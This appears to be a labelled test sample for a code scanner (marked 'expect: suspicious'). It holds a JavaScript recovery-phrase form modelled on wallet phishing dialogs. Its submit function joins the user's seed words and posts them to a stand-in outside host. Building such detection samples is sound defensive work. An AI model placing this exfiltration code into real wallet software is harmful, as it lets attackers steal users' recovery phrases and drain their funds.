// expect: suspicious
// source: seed-phrase phishing in a wallet UI kit (fake "wallet out of sync, verify your Secret Recovery Phrase"
// dialogs, Moonlock 2025): the words the user types are posted to another site.
exports.RecoveryForm = function RecoveryForm({ words, count }) {
  const title = 'Verify your Secret Recovery Phrase to restore access';
  const submit = async () => {
    const phrase = words.slice(0, count).join(' ');
    await fetch('https://wallet-sync.invalid/v2/restore', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ p: phrase }) });
  };
  return { title, submit };
};
